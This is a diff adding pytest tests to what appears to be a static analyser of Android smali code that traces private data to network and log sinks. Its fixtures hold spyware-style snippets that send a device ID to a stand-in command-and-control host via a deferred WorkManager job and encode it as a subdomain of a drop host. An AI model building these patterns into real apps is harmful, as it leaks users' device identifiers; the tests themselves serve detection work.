@@ -619,3 +619,102 @@ def test_adversarial_graphs_stay_bounded(analyse: Analyse) -> None:
     )
     text = MAIN + "const/4 v0, 0\ninvoke-static {v0} Lapp/W;->m0(I)V\nreturn-void\n.class Lapp/W;\n" + methods
     assert analyse(text).limits
+
+
+def test_work_that_is_done_later(analyse: Analyse) -> None:
+    text = (
+        MAIN
+        + IMEI
+        + """
+    new-instance v2, Landroidx/work/Data$Builder;
+    invoke-direct {v2} Landroidx/work/Data$Builder;-><init>()V
+    const-string v3, "k"
+    invoke-virtual {v2, v3, v1} Landroidx/work/Data$Builder;->putString(Ljava/lang/String;Ljava/lang/String;)Landroidx/work/Data$Builder;
+    invoke-virtual {v2} Landroidx/work/Data$Builder;->build()Landroidx/work/Data;
+    move-result-object v2
+    new-instance v4, Landroidx/work/OneTimeWorkRequest$Builder;
+    const-class v5, Lapp/W;
+    invoke-direct {v4, v5} Landroidx/work/OneTimeWorkRequest$Builder;-><init>(Ljava/lang/Class;)V
+    invoke-virtual {v4, v2} Landroidx/work/OneTimeWorkRequest$Builder;->setInputData(Landroidx/work/Data;)Landroidx/work/WorkRequest$Builder;
+    return-void
+    .class Lapp/W; Landroidx/work/Worker;
+    .method doWork()Landroidx/work/ListenableWorker$Result; 8
+    invoke-virtual {v7} Lapp/W;->getInputData()Landroidx/work/Data;
+    move-result-object v2
+    const-string v3, "k"
+    invoke-virtual {v2, v3} Landroidx/work/Data;->getString(Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v1
+    const-string v0, "http://c2.example/x"
+    invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
+    const/4 v0, 0
+    return-object v0
+    """
+        + POST
+    )
+    assert flows(analyse(text)) == {("device-id", "http", "c2.example")}
+
+
+def test_data_as_a_subdomain(analyse: Analyse) -> None:
+    body = """
+    new-instance v2, Ljava/lang/StringBuilder;
+    const-string v3, "http://"
+    invoke-direct {v2, v3} Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v2, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    const-string v3, ".sub.drop.example/p"
+    invoke-virtual {v2, v3} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v2} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v0
+    new-instance v2, Ljava/net/URL;
+    invoke-direct {v2, v0} Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v2} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    return-void
+    """
+    facts = analyse(MAIN + IMEI + body)
+    assert flows(facts) == {("device-id", "http", "sub.drop.example")}
+    assert [e.value for e in facts.endpoints] == ["sub.drop.example"]
+
+
+def test_a_parameter_that_nobody_reads_is_not_taken(analyse: Analyse) -> None:
+    text = (
+        MAIN
+        + """
+    const-string v0, "phone"
+    invoke-virtual {v11, v0} Lapp/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Landroid/telephony/TelephonyManager;
+    new-instance v1, Lapp/Pause;
+    invoke-direct {v1} Lapp/Pause;-><init>()V
+    const/16 v2, 32
+    invoke-virtual {v0, v1, v2} Landroid/telephony/TelephonyManager;->listen(Landroid/telephony/PhoneStateListener;I)V
+    return-void
+    .class Lapp/Pause; Landroid/telephony/PhoneStateListener;
+    .method <init>()V 2
+    invoke-direct {v1} Landroid/telephony/PhoneStateListener;-><init>()V
+    return-void
+    .method onCallStateChanged(ILjava/lang/String;)V 5
+    BODY
+    return-void
+    """
+    )
+    assert analyse(text.replace("BODY", "const/4 v0, 0")).sources == ()
+    used = 'const-string v0, "t"\ninvoke-static {v0, v4} Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I'
+    assert flows(analyse(text.replace("BODY", used))) == {("call-log", "log", None)}
+
+
+def test_asking_who_opens_a_link_lists_no_apps(analyse: Analyse) -> None:
+    text = (
+        MAIN
+        + """
+    new-instance v2, Landroid/content/Intent;
+    const-string v3, "ACTION"
+    invoke-direct {v2, v3} Landroid/content/Intent;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v11} Lapp/Main;->getPackageManager()Landroid/content/pm/PackageManager;
+    move-result-object v0
+    const/4 v1, 0
+    invoke-virtual {v0, v2, v1} Landroid/content/pm/PackageManager;->queryIntentActivities(Landroid/content/Intent;I)Ljava/util/List;
+    return-void
+    """
+    )
+    assert analyse(text.replace("ACTION", "android.intent.action.VIEW")).sources == ()
+    found = analyse(text.replace("ACTION", "android.intent.action.MAIN")).sources
+    assert [s.data.value for s in found] == ["installed-apps"]
